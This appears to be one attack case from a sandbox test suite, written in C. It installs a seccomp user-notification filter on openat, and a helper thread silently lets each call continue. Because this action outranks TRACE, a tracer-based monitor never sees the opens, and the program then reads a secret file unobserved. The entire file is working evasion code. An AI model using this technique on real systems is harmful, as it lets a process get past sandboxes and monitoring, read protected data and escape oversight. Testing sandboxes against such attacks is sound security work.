/* A seccomp listener of our own: USER_NOTIF outranks TRACE, so that whoever trusts the latter never hears of the call. */
#include "../attack.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
static int listener;
static void *answer(void *unused)
{
	struct seccomp_notif request;
	for (;;) {
		memset(&request, 0, sizeof request);
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &request) < 0)
			return unused;
		struct seccomp_notif_resp response = { .id = request.id, .flags = 1 /* CONTINUE */ };
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &response);
	}
}
int main(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { 4, code };
	pthread_t thread;
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
	if (listener < 0 || pthread_create(&thread, NULL, answer, NULL) != 0)
		return 1;
	return show_file(SECRET);
}
